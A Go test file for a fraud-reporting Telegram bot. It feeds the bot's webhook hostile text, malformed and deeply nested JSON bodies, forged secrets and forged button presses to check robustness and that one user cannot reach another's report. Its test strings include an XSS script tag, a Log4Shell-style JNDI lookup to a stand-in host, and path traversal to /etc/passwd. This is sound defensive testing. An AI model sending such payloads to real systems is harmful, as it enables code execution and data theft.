package bot

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"satark/bot/sandbox"
)

// hostileWords are words that break what shows or keeps them carelessly.
func hostileWords() map[string]string {
	return map[string]string{
		"markup": `<b>x</b> <i> </b></i></code></pre></blockquote> <script>alert(1)</script><int> <a href="tg://user?id=1">1930</a>` +
			` &lt;b&gt; &amp;amp; &#60;b&#62; &nbsp; &x; & *b* _i_ [1930](http://bad.example/) ` + "`c`" + ` ||s|| > q # h ~x~ - . ! { } + =` +
			` {{.Number}} {{template "x"}} ${jndi:ldap://bad.example/} %s%n %00 ../../../../etc/passwd\..\..\c:\con`,
		"unseen": "a\x00b\x01\x02\x07\x08\x1b[2Jb\x7fc\u0085d\u2028e\u2029f\r\n\r\ng\vh\fi" + strings.Repeat("\u200b\u2060\ufeff\u00ad", 40) +
			"\ufffe\uffff\U0001fffe\U0010ffff\ue000",
		"turned about":      "\u202egpj.exe\u202c \u2067abc\u2069 \u200f\u061c x \u2066\u2067\u2068\u202a\u202b\u202d\u202e",
		"zalgo":             "z" + strings.Repeat("\u0335\u0321\u0489\u035b", 300),
		"long markup":       strings.Repeat("<&>\"'", 800),
		"long emoji":        strings.Repeat("😀", 1900) + strings.Repeat("👩‍👩‍👧‍👦🇮🇳", 10),
		"long word":         strings.Repeat("क्ष", 1300),
		"nothing but lines": "x" + strings.Repeat("\n", 4000) + "x",
	}
}

// Whatever a citizen's name, words, captions, files and contacts hold: every update is
// answered, nothing is parked, Telegram refuses no message, and a report comes of it in
// the end.
func TestHostileWordsEverywhere(t *testing.T) {
	r := real(t).webhook()
	chat := int64(100)
	for name, words := range hostileWords() {
		chat++
		t.Run(name, func(t *testing.T) {
			was := r.t
			r.t = t
			defer func() { r.t = was }()
			r.sufferReport(chat, words)
		})
	}
}

// sufferReport makes a report of hostile words, from the first word to the packs.
func (r *rig) sufferReport(chat int64, words string) {
	r.t.Helper()
	c := r.server.Citizen(chat, sandbox.Profile{First: words, Last: words, Lang: "en"})
	r.acknowledged(c.Command("start", words), c.Say(words), c.Forward(words, sandbox.Origin{Name: words}))
	r.acknowledged(c.SendContact(sandbox.Contact{Phone: words, First: words, Last: words}))
	r.acknowledged(c.SendFile(words, sandbox.Attachment{Kind: sandbox.KindDocument, Name: words + ".pdf", Mime: words, Data: []byte("%PDF-1.7")}))
	r.acknowledged(c.Command("report", ""))
	for _, button := range []string{":triage:none", ":agree", ":call"} {
		r.taps(c, button)
	}
	r.tells(c, "98765 43210")
	r.tells(c, "He said my KYC has expired and wanted a fee by UPI. "+words)
	r.taps(c, ":today")
	r.taps(c, ":edit:evidence")
	r.acknowledged(c.SendFile(words, sandbox.Attachment{Kind: sandbox.KindDocument, Name: "a.pdf", Mime: "application/pdf", Data: []byte("%PDF-1.7")}))
	r.taps(c, ":_done")
	r.taps(c, ":edit:name")
	r.tells(c, words)
	r.taps(c, ":submit")
	r.settled()
	r.noneRefused(chat)
	r.parked(0)
	all, err := r.store.Everything(r.t.Context(), chat)
	for _, text := range said(c) {
		if strings.ContainsFunc(text, func(c rune) bool { return c != '\n' && legible(string(c)) == "" }) {
			r.t.Errorf("what nobody can see is sent: %q", text)
		}
	}
	if err != nil || len(all.Reports) != 1 {
		r.t.Fatalf("%d reports, %v\n%q", len(all.Reports), err, said(c))
	}
}

// noneRefused holds that Telegram took every message for a chat as it was.
func (r *rig) noneRefused(chat int64) {
	r.t.Helper()
	sent := 0
	for _, call := range r.server.Calls() {
		if call.Chat != chat {
			continue
		}
		sent++
		if !call.OK && !strings.Contains(call.Description, "QUERY_ID_INVALID") {
			r.t.Errorf("%s: %d %s", call.Method, call.Code, call.Description)
		}
	}
	if sent == 0 {
		r.t.Error("nothing was sent")
	}
}

// bodies are calls of the webhook that no honest Telegram makes, or few: what is
// answered, and how many updates are parked for them.
func bodies() []struct {
	name   string
	body   []byte
	status int
	parked int
} {
	deep := func(n int, open, end string) []byte {
		return []byte(`{"update_id":71,"message":` + strings.Repeat(open, n) + "1" + strings.Repeat(end, n) + "}")
	}
	says := func(update, chat, rest string) []byte {
		return []byte(`{"update_id":` + update + `,"message":{"message_id":5,"date":5,"chat":{"id":` + chat + `,"type":"private"},"from":{"id":` + chat + `,"first_name":"A"},` + rest + `}}`)
	}
	entities := strings.TrimSuffix(strings.Repeat(`{"type":"text_link","offset":0,"length":1,"url":"http://bad.example/`+strings.Repeat("x", 50)+`"},`, 10_000), ",")
	return []struct {
		name   string
		body   []byte
		status int
		parked int
	}{
		{"ten megabytes", bytes.Repeat([]byte("x"), 10<<20), 400, 0},
		{"ten megabytes of an update", says("71", "41", `"text":"`+strings.Repeat("x", 10<<20)+`"`), 400, 0},
		{"a megabyte of text", says("71", "41", `"text":"`+strings.Repeat("<", 1<<20)+`"`), 200, 0},
		{"arrays 100,000 deep", deep(100_000, "[", "]"), 400, 0},
		{"objects 100,000 deep", deep(100_000, `{"reply_to_message":`, "}"), 400, 0},
		{"objects 2,000 deep", deep(2_000, `{"reply_to_message":`, "}"), 200, 1},
		{"cut off", says("71", "41", `"text":"x`)[:60], 400, 0},
		{"two updates", []byte(string(says("71", "41", `"text":"x"`)) + string(says("72", "41", `"text":"y"`))), 400, 0},
		{"an array", []byte("[" + string(says("71", "41", `"text":"x"`)) + "]"), 400, 0},
		{"NUL in the body", says("71", "41", "\"text\":\"a\x00b\""), 400, 0},
		{"NUL in the text", says("71", "41", `"text":"a\u0000b"`), 200, 0},
		{"invalid UTF-8", says("71", "41", "\"text\":\"a\xff\xfeb\""), 200, 0},
		{"lone surrogates", says("71", "41", `"text":"\ud800x\udc00"`), 200, 0},
		{"entities of 10,000", says("71", "41", `"text":"here","entities":[`+entities+`]`), 200, 0},
		{"entities out of place", says("71", "41", `"text":"/start","entities":[{"type":"bot_command","offset":-5,"length":999999999}]`), 200, 0},
		{"a huge address", says("71", "41", `"text":"here","entities":[{"type":"text_link","offset":0,"length":4,"url":"http://x/`+strings.Repeat("y", 1<<20)+`"}]`), 200, 0},
		{"a photo without sizes", says("71", "41", `"photo":[]`), 200, 0},
		{"a photo of no size", says("71", "41", `"photo":[{"file_id":"","width":-1,"height":-9223372036854775808,"file_size":-1}]`), 200, 0},
		{"a hostile file", says("71", "41", `"document":{"file_id":"../../x","file_name":"../../../etc/passwd\u0000\u202egpj.pdf","mime_type":"`+strings.Repeat("m", 5000)+`","file_size":-5}`), 200, 0},
		{"a place off the earth", says("71", "41", `"location":{"latitude":1e308,"longitude":-1e308}`), 200, 0},
		{"a date at the end of time", []byte(`{"update_id":71,"message":{"message_id":5,"date":9223372036854775807,"chat":{"id":41,"type":"private"},"text":"x"}}`), 200, 0},
		{"a forwarded photo at the end of time", []byte(`{"update_id":71,"message":{"message_id":5,"date":9223372036854775807,"chat":{"id":41,"type":"private"},"photo":[{"file_id":"x","width":1,"height":1}],"forward_origin":{"type":"hidden_user","date":9223372036854775807,"sender_user_name":"B"}}}`), 200, 0},
		{"nobody's message", []byte(`{"update_id":71,"message":{"message_id":5,"date":5,"chat":{"id":41,"type":"private"},"text":"x"}}`), 200, 0},
		{"a chat of no id", says("71", "0", `"text":"x"`), 200, 1},
		{"a chat of no kind", []byte(`{"update_id":71,"message":{"message_id":5,"date":5,"chat":{"id":41},"text":"x"}}`), 200, 0},
		{"update 0", says("0", "41", `"text":"x"`), 200, 1},
		{"an update below 0", says("-71", "41", `"text":"x"`), 200, 1},
		{"the last update there can be", says("9223372036854775807", "41", `"text":"x"`), 200, 0},
		{"one more than that", says("9223372036854775808", "41", `"text":"x"`), 400, 0},
		{"an update that is no number", says(`"71"`, "41", `"text":"x"`), 400, 0},
		{"an update of a fraction", says("71.5", "41", `"text":"x"`), 400, 0},
		{"an update twice in one", []byte(`{"update_id":71,"update_id":72,"message":{"message_id":5,"date":5,"chat":{"id":41,"type":"private"},"text":"x"}}`), 200, 0},
		{"start of any bytes", says("71", "41", `"text":"/start \u0000\u202e`+strings.Repeat("é", 600)+`"`), 200, 0},
		{"a press of any bytes", []byte(`{"update_id":71,"callback_query":{"id":"q","from":{"id":41},"data":"q:\u0000:\ud800:` + strings.Repeat("é", 500) + `","message":{"message_id":9,"date":0,"chat":{"id":41,"type":"private"}}}}`), 200, 0},
		{"a press without anything", []byte(`{"update_id":71,"callback_query":{}}`), 200, 1},
		{"nothing but an id", []byte(`{"update_id":71}`), 200, 0},
	}
}

func TestHostileBodies(t *testing.T) {
	r := real(t).webhook()
	r.citizen(41).Meet()
	was := 0
	for i, c := range bodies() {
		t.Run(c.name, func(t *testing.T) {
			body := bytes.Replace(c.body, []byte(`"update_id":71,`), fmt.Appendf(nil, `"update_id":%d,`, 1000+i), 1)
			if w := r.post(body); w.Code != c.status {
				t.Errorf("status %d, want %d", w.Code, c.status)
			}
			parked, err := r.store.ParkedList(t.Context())
			if err != nil || len(parked) != was+c.parked {
				t.Errorf("%d parked, want %d: %v", len(parked)-was, c.parked, err)
			}
			was = len(parked)
		})
	}
	r.settled()
	r.noneRefused(41)
	if r.post(text(5000, "hello")).Code != 200 {
		t.Error("the chat does not go on")
	}
}

func TestTheSameUpdateWithOtherWordsChangesNothing(t *testing.T) {
	r := newRig(t).webhook()
	c := r.citizen(41).Meet()
	for _, words := range []string{"first", "second", "third"} {
		if w := r.post(text(71, words)); w.Code != 200 {
			t.Errorf("%s: %d", words, w.Code)
		}
	}
	r.sees(c, "1: first")
}

func TestForgedWebhooksStoreNothing(t *testing.T) {
	r := newRig(t).webhook()
	for name, secret := range map[string]string{
		"none": "", "wrong": "a-secret_2", "shorter": "a-secret_", "longer": "a-secret_11", "upper case": "A-SECRET_1",
		"blank": " ", "behind a blank": " a-secret_1", "a megabyte": strings.Repeat("a", 1<<20), "the token": rigToken, "NUL": "a-secret_1\x00",
	} {
		ours := r.opt.WebhookSecret
		r.opt.WebhookSecret = secret // what post sends
		for range 2 {
			if w := r.post(text(71, "forged")); w.Code != http.StatusUnauthorized {
				t.Errorf("%s: %d", name, w.Code)
			}
		}
		r.opt.WebhookSecret = ours
	}
	stats, err := r.store.Stats(t.Context())
	if err != nil || stats.Persons+stats.Parked+stats.Deliveries+stats.Lines != 0 {
		t.Errorf("stored %+v, %v", stats, err)
	}
	if heard := r.dialogue.inputs(); len(heard) != 0 {
		t.Errorf("heard %d", len(heard))
	}
}

// A button of somebody else's draft or report, and one that was never made, do nothing
// and show nothing of it.
func TestForgedPresses(t *testing.T) {
	r := real(t).webhook()
	r.sufferReport(41, "Asha of Jaipur")
	thief := r.server.Citizen(42, sandbox.Profile{First: "Imran", Lang: "en"})
	victim, err := r.store.Everything(t.Context(), 41)
	if err != nil {
		t.Fatal(err)
	}
	number := string(victim.Reports[0].Number)
	before := asText(t, victim.Reports)
	r.acknowledged(thief.Command("report", ""))
	r.taps(thief, ":triage:none")
	r.taps(thief, ":agree")
	press := func(n int, data string) {
		t.Helper()
		body := fmt.Appendf(nil, `{"update_id":%d,"callback_query":{"id":"q","from":{"id":42,"first_name":"Imran"},"data":%s,"message":{"message_id":2,"date":5,"chat":{"id":42,"type":"private"}}}}`, 9000+n, asText(t, data))
		if w := r.post(body); w.Code != 200 {
			t.Errorf("%q: %d", data, w.Code)
		}
	}
	for n, data := range []string{
		"g:rep:" + number, "g:amend:" + number, "g:packs:" + number, "g:wd:" + number, "g:wdok:" + number, "g:noref:" + number + ":chakshu", "g:filed:" + number + ":ncrp",
		"r:" + victim.Session.Filed[0].Draft + ":submit", "q:" + victim.Session.Filed[0].Draft + ":suspect:hidden", "g:resume:99", "g:drop:99", "q:1:medium:call\x00", "q:1:when:today", "r:1:edit:when.9999999999999999999",
		"q:1:" + strings.Repeat("9", 60), "r:1:submit", strings.Repeat("\x00", 64), strings.Repeat("é", 32), "\u202e:q:1", "g:lang:../../en", "g:card:../x", "g:forget:yes:41", "::::", "q::::", "{}", "null",
	} {
		press(n, data)
	}
	r.settled()
	r.parked(0)
	after, err := r.store.Everything(t.Context(), 41)
	if err != nil || asText(t, after.Reports) != before {
		t.Error("the victim's report changed")
	}
	for _, m := range thief.Messages() {
		if strings.Contains(m.Text, number) || strings.Contains(m.Text, "Jaipur") {
			t.Errorf("the thief sees %q", m.Text)
		}
	}
	stolen, err := r.store.Everything(t.Context(), 42)
	if err != nil || len(stolen.Reports) != 0 {
		t.Errorf("the thief has %d reports, %v", len(stolen.Reports), err)
	}
}

func asText(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
